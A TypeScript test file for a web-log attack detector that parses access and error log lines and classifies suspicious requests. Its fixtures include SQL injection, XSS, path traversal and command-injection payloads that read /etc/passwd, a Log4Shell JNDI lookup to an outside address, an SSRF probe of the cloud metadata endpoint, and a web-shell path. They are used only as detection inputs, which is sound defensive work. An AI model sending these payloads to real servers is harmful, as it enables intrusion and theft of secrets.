import assert from 'node:assert/strict'
import { test } from 'node:test'

import {
  createWeblog,
  isWebLog,
  latin1Line,
  type NewsReason,
  webAttackInfo,
  webRequestSeen,
} from './index.ts'

function lineOf(
  target: string,
  { status = 200, bytes = 100, second = 0, client = '192.0.2.7' } = {},
): string {
  const clock = new Date(Date.UTC(2026, 10, 22, 8) + second * 1000).toISOString().slice(11, 19)
  return `${client} - bob [22/Nov/2026:${clock} +0000] "GET ${target} HTTP/1.1" ${status} ${bytes} "https://x.example/" "Mozilla/5.0"`
}

test('logs of web servers are known by their kind or their program', () => {
  for (const kind of ['apache-access', 'apache-error', 'nginx-access', 'nginx-error'])
    assert.equal(isWebLog(kind), true, kind)
  assert.equal(isWebLog('syslog', 'haproxy'), true)
  assert.equal(isWebLog('journal', 'caddy'), true)
  for (const [kind, program] of [
    ['syslog', 'sshd'],
    ['mysql-error', ''],
  ] as const)
    assert.equal(isWebLog(kind, program), false, kind)
})

test('of a run of 5,000 requests with ten kinds of attacks at most a dozen are news', () => {
  const weblog = createWeblog()
  const attacks = [
    "/item?id=1'%20UNION%20SELECT%20user%20FROM%20users--%20-",
    '/s?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/d?file=../../../../etc/passwd',
    '/p?host=127.0.0.1;cat%20/etc/passwd',
    '/?x=${jndi:ldap://198.51.100.7/a}',
    '/uploads/photo.php.jpg',
    '/.git/HEAD',
    '/c99.php',
    '/r?name={{7*7}}',
    '/?u=http://169.254.169.254/latest/meta-data/',
  ]
  const because: NewsReason[] = []
  for (let index = 0; index < 5000; index += 1) {
    const status = [200, 302, 404, 500][index % 4] ?? 200
    const result = weblog.line(
      lineOf(`${attacks[(index >> 2) % attacks.length]}&n=${index}`, { status, second: index >> 4 }),
    )
    if ('news' in result) because.push(...result.news.map((news) => news.because))
  }
  assert.ok(because.length >= 5 && because.length <= 12, because.join(' '))
  assert.deepEqual(because.filter((reason) => reason === 'count').length, 3)
  assert.equal(weblog.incidents().length, 1)
})

test('what is news: a class, a worse outcome, ten points of confidence, a power of ten', () => {
  const weblog = createWeblog()
  for (let index = 0; index < 12; index += 1)
    weblog.line(lineOf(`/item?id=${index}`, { client: '198.51.100.1', bytes: 500 }))
  const newsOf = (line: string): string[] => {
    const result = weblog.line(line)
    return 'news' in result ? result.news.map(({ finding, because }) => `${finding.class} ${because}`) : []
  }
  const weak = '/item?id=1%20order%20by%203'
  const strong = '/item?id=1%20union%20select%201,2'
  assert.deepEqual(newsOf(lineOf(weak, { status: 404 })), ['sqli class'])
  assert.deepEqual(newsOf(lineOf(weak, { status: 404 })), [])
  assert.deepEqual(newsOf(lineOf(weak, { status: 302 })), ['sqli outcome'])
  assert.deepEqual(newsOf(lineOf(strong, { status: 302 })), ['sqli confidence'])
  assert.deepEqual(newsOf(lineOf(strong, { status: 302 })), [])
  assert.deepEqual(newsOf(lineOf(strong, { bytes: 9000 })), ['sqli outcome'])
  for (let index = 7; index < 10; index += 1) assert.deepEqual(newsOf(lineOf(strong, { bytes: 9000 })), [])
  assert.deepEqual(newsOf(lineOf(strong, { bytes: 9000 })), ['sqli count'])
  // An hour of silence: the address begins anew.
  assert.deepEqual(newsOf(lineOf(weak, { status: 404, second: 3700 })), ['sqli class'])
})

test('a line that was decoded as UTF-8 goes in and comes out as that text', () => {
  const weblog = createWeblog()
  const result = weblog.line(latin1Line(lineOf('/käse?q=%3Cscript%3Ealert(1)%3C/script%3E€')))
  assert.equal(result.kind, 'request')
  assert.deepEqual(webRequestSeen(result), {
    timeMs: Date.UTC(2026, 10, 22, 8),
    client: '192.0.2.7',
    method: 'GET',
    target: '/käse?q=%3Cscript%3Ealert(1)%3C/script%3E€',
    status: 200,
    bytes: 100,
    referer: 'https://x.example/',
    userAgent: 'Mozilla/5.0',
    host: '',
    user: 'bob',
    durationMs: -1,
  })
  const [finding] = result.findings
  assert.ok(finding !== undefined)
  const info = webAttackInfo(finding, result)
  assert.deepEqual(
    [info.class, info.place, info.name, info.value, info.outcome, info.status, info.count],
    ['xss', 'query', 'q', '<script>alert(1)</script>€', 'possible', 200, 1],
  )
  assert.equal(info.target, '/käse?q=%3Cscript%3Ealert(1)%3C/script%3E€')
})

test('an entry of an error log has the request that it names', () => {
  const result = createWeblog().line(
    '2026/11/22 08:00:05 [error] 7#7: *4 open() "/var/www/x" failed (2: No such file or directory), client: 192.0.2.7, server: x, request: "GET /a?f=../../../etc/passwd HTTP/1.1", host: "x.example"',
  )
  assert.equal(result.kind, 'error')
  const seen = webRequestSeen(result)
  assert.deepEqual(
    [seen.client, seen.method, seen.target, seen.status, seen.host],
    ['192.0.2.7', 'GET', '/a?f=../../../etc/passwd', 0, 'x.example'],
  )
  assert.equal(result.findings[0]?.class, 'traversal')
})
